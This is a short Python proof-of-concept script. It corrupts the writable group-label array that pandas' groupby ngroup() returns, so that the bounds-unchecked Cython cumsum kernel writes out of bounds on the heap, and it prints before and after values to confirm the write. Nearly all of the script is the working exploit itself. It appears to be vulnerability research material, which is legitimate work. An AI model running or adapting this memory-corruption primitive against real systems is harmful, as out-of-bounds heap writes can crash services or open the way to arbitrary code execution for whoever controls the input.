# source: pandas/core/groupby/groupby.py ngroup() aliasing group_info[0]; pandas/_libs/groupby.pyx group_cumsum int64 path: accum[lab, j] = val + accum[lab, j] (@boundscheck(False))
# family: writable internal index arrays of pandas objects (the groupby's cached labels, reached through ngroup()) used unchecked by Cython kernels
# goal: out-of-bounds heap WRITE: rows 0..2 all point at one word 8*D bytes past the accumulator; row 1 adds 0x1000 to it, rows 0 and 2 read it before and after
import numpy as np
import pandas as pd

G = 64
df = pd.DataFrame({"k": np.arange(G), "v": np.zeros(G, dtype=np.int64)})
gb = df.groupby("k")
lab = gb.ngroup().values
v = df["v"].values
D = G + 40
lab[:] = -1
lab[0] = D
lab[1] = D
lab[2] = D
v[1] = 0x1000
out = gb.v.cumsum().values
print("word at accum+8*%d before write :" % D, hex(int(out[0])))
print("same word after row 1 added 0x1000:", hex(int(out[2])))
print("written:", int(out[2]) - int(out[0]) == 0x1000)
